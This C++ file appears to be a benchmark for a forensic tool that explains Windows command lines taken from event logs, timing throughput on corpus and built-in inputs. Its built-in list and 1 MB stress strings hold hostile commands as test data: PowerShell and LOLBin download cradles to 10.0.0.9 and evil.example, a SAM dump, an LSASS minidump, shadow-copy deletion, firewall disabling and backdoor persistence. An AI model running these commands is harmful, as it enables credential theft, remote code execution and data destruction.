// SPDX-License-Identifier: GPL-3.0-or-later
// Command-line explainer speed: explains every distinct command line of the
// shared corpus (CommandLine fields and scheduled-task actions, read with our
// EVTX reader), or a built-in set without the corpus, several rounds; then
// times hostile 1 MB command lines. Prints explanations per second (wall and
// per CPU-second) with and without rendering text + JSON in both languages.
//   bench_explain [--rounds N]
#include <ctime>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "core/explain/command_explainer.h"
#include "core/explain/explanation_json.h"
#include "core/ingest/evtx/evtx_file.h"
#include "core/store/task_content.h"

using namespace hitome::core;
namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

namespace {

double cpuSeconds() {
    timespec ts{};
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
    return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

std::string readFile(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

KnowledgeBase loadKb() {
    std::vector<KbDocument> docs;
    for (const auto& f : fs::directory_iterator(fs::path(HITOME_SOURCE_DIR) / "resources" / "knowledge"))
        if (f.path().extension() == ".json") docs.emplace_back(f.path().filename().string(), readFile(f.path()));
    std::vector<Error> problems;
    return KnowledgeBase::fromDocumentsLenient(docs, problems);
}

std::vector<std::string> corpusLines() {
    std::set<std::string> lines;
    const fs::path dir = fs::path(HITOME_SHARED_DIR) / "corpus" / "evtx";
    if (!fs::exists(dir)) return {};
    for (const auto& e : fs::recursive_directory_iterator(dir)) {
        if (!e.is_regular_file() || e.path().extension() != ".evtx") continue;
        auto file = EvtxFile::open(e.path());
        if (!file.ok()) continue;
        const Status read = file->forEachRecord([&](const WinEvent& ev) {
            if (const std::string* cl = ev.field("CommandLine"); cl && !cl->empty()) lines.insert(*cl);
            if (const std::string* task = ev.field("TaskContent"))
                if (auto action = parseTaskContent(*task).actions; !action.empty()) lines.insert(action);
        });
        if (!read.ok()) std::fprintf(stderr, "%s: %s\n", e.path().c_str(), read.error().message().c_str());
    }
    return {lines.begin(), lines.end()};
}

std::vector<std::string> builtinLines() {
    return {
        "schtasks.exe /create /SC ONCE /TN Troj /TR C:\\Users\\vmadmin\\Desktop\\WinATP-Intro-Backdoor.exe /ST 13:36 /F",
        "schtasks /Create /F /RU SYSTEM /SC DAILY /ST 10:51 /TN Updater /TR \"powershell -NonI -W hidden -c IEX ([Text.Encoding]::"
        "Unicode.GetString([Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network).debug)))\"",
        "at \\\\10.0.0.5 12:00 cmd /c C:\\Windows\\Temp\\mal.exe",
        "wmic /node:10.0.0.6 /user:\"CONTOSO\\svc\" /password:\"x\" process call create \"cmd /c C:\\Windows\\Temp\\mal.exe\"",
        "net user bob P@ss /add /domain", "net localgroup administrators bob /add", "net use \\\\fs01\\c$ /user:corp\\adm pw",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /t REG_SZ /d C:\\Users\\Public\\u.exe /f",
        "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save", "sc create x binPath= C:\\Windows\\Temp\\s.exe start= auto",
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a.ps1')\"",
        "cmd.exe /c whoami & net user /domain & ipconfig /all > C:\\Users\\Public\\o.txt",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full",
        "regsvr32 /s /n /u /i:http://10.0.0.9/a.sct scrobj.dll", "mshta http://10.0.0.9/a.hta",
        "certutil -urlcache -split -f http://10.0.0.9/a.exe a.exe", "bitsadmin /transfer j http://10.0.0.9/a.exe C:\\a.exe",
        "netsh advf set allp state off", "wmic os get /format:\"http://evil.example/a.xsl\"", "vssadmin delete shadows /all /quiet",
        "tasklist", "whoami /all", "ipconfig /all", "systeminfo", "netstat -ano", "C:\\Windows\\system32\\svchost.exe -k netsvcs",
    };
}

struct Timing {
    double wall = 0, cpu = 0;
};

template <typename F>
Timing timed(F&& f) {
    const auto start = Clock::now();
    const double cpu = cpuSeconds();
    f();
    return {std::chrono::duration<double>(Clock::now() - start).count(), cpuSeconds() - cpu};
}

size_t renderBoth(const Explanation& ex) {
    size_t bytes = 0;
    for (Lang lang : {Lang::En, Lang::Ja}) {
        bytes += explanationToText(ex, lang).size();
        bytes += explanationToJson(ex, lang).dump(-1, ' ', false, nlohmann::json::error_handler_t::replace).size();
    }
    return bytes;
}

std::vector<std::pair<std::string, std::string>> megabyteLines() {
    const size_t mb = 1u << 20;
    std::vector<std::pair<std::string, std::string>> out;
    std::string concat = "powershell -nop -c \"";
    while (concat.size() < mb) concat += "'a'+'b'+[char]65+\"x\" & ^| ";
    out.emplace_back("powershell, concatenation + char codes", concat);
    std::string script;
    while (script.size() < mb / 3) script += "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a.ps1'); ";
    std::string utf16;
    for (char c : script) utf16 += std::string{c, '\0'};
    static const char* k = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string b64 = "powershell -enc ";
    for (size_t i = 0; i + 2 < utf16.size(); i += 3) {
        const unsigned v = (static_cast<unsigned char>(utf16[i]) << 16) | (static_cast<unsigned char>(utf16[i + 1]) << 8) |
                           static_cast<unsigned char>(utf16[i + 2]);
        for (int s = 18; s >= 0; s -= 6) b64 += k[(v >> s) & 63];
    }
    out.emplace_back("powershell -enc, base64 UTF-16LE", b64);
    std::string args = "net user";
    while (args.size() < mb) args += " a";
    out.emplace_back("net user, 500k arguments", args);
    std::string chain = "cmd /c ";
    while (chain.size() < mb) chain += "whoami & ";
    out.emplace_back("cmd /c, 116k-command chain (first 4,096 explained)", chain);
    std::string quotes = "schtasks /create /tn \"";
    while (quotes.size() < mb) quotes += "\\\"^&\"\" \xE2\x80\xAE\x01 ";
    out.emplace_back("schtasks, quotes/carets/bidi/controls", quotes);
    return out;
}

}  // namespace

int main(int argc, char** argv) {
    int rounds = 5;
    for (int i = 1; i + 1 < argc; ++i)
        if (std::strcmp(argv[i], "--rounds") == 0) rounds = std::max(1, std::atoi(argv[i + 1]));
    const KnowledgeBase kb = loadKb();
    const CommandExplainer explainer(&kb);
    std::vector<std::string> lines = corpusLines();
    const bool fromCorpus = !lines.empty();
    if (!fromCorpus) lines = builtinLines();
    size_t bytes = 0;
    for (const auto& l : lines) bytes += l.size();
    std::printf("knowledge base: %zu entries; %zu distinct command lines (%s), %.1f KB\n", kb.size(), lines.size(),
                fromCorpus ? "corpus CommandLine fields and task actions" : "built-in set, no corpus", bytes / 1024.0);

    size_t sink = 0;
    const Timing explainOnly = timed([&] {
        for (int r = 0; r < rounds; ++r)
            for (const auto& l : lines) sink += explainer.explain(l).arguments.size();
    });
    const Timing withRender = timed([&] {
        for (int r = 0; r < rounds; ++r)
            for (const auto& l : lines) sink += renderBoth(explainer.explain(l));
    });
    const double n = static_cast<double>(lines.size()) * rounds;
    std::printf("| Work | Explanations | Wall | Explanations/s (wall) | Explanations per CPU-s |\n|---|---:|---:|---:|---:|\n");
    std::printf("| explain | %.0f | %.2f s | %.0f | %.0f |\n", n, explainOnly.wall, n / explainOnly.wall, n / explainOnly.cpu);
    std::printf("| explain + text and JSON, en and ja | %.0f | %.2f s | %.0f | %.0f |\n", n, withRender.wall,
                n / withRender.wall, n / withRender.cpu);

    std::printf("\n| 1 MB command line | Bytes | Explain (wall / CPU) | + text and JSON, en and ja (wall / CPU) | Decoded layers |\n"
                "|---|---:|---:|---:|---:|\n");
    for (const auto& [name, line] : megabyteLines()) {
        Explanation ex;
        const Timing t1 = timed([&] { ex = explainer.explain(line); });
        const Timing t2 = timed([&] { sink += renderBoth(ex); });
        std::printf("| %s | %zu | %.0f / %.0f ms | %.0f / %.0f ms | %zu |\n", name.c_str(), line.size(), t1.wall * 1e3,
                    t1.cpu * 1e3, t2.wall * 1e3, t2.cpu * 1e3, ex.decoded.size());
    }
    std::fprintf(stderr, "(checksum %zu)\n", sink);
    return 0;
}
